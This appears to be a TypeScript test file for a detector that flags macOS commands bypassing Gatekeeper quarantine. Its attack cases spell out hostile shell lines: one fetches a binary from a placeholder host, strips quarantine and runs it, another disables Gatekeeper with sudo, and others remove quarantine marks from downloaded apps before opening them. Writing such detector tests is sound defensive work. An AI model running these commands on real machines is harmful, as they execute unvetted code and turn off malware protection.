import { expect, test } from 'vitest'
import { commandOf, hits } from '../testing.ts'
import detector from './command-quarantine.ts'

const titles = (command: string) => hits(detector, commandOf(command)).map(({ title }) => title)

test.each([
  [
    'of what was fetched',
    'curl -o /tmp/a https://a.invalid/a && xattr -c /tmp/a && chmod +x /tmp/a && /tmp/a',
    'fetched',
  ],
  ['altogether', 'sudo spctl --master-disable', 'off'],
  [
    'of a download that is opened',
    'xattr -dr com.apple.quarantine ~/Downloads/Meet.app && open ~/Downloads/Meet.app',
    'downloaded',
  ],
  ['of an image', 'xattr -c /Volumes/Meet/Meet.app; open /Volumes/Meet/Meet.app', 'downloaded'],
  [
    'of an installed program that is opened',
    'xattr -dr com.apple.quarantine /Applications/Own.app && open /Applications/Own.app',
    'opened',
  ],
  ['of one program', 'xattr -dr com.apple.quarantine /Applications/Own.app', 'mark'],
])('attack: %s', (_, command, signal) => {
  expect(titles(command)).toContain(detector.signals[signal]?.title)
})

test.each([['xattr -l file'], ['spctl --status'], ['xattr -w user.note hello file']])(
  'innocent: %s',
  (command) => {
    expect(titles(command)).toEqual([])
  },
)
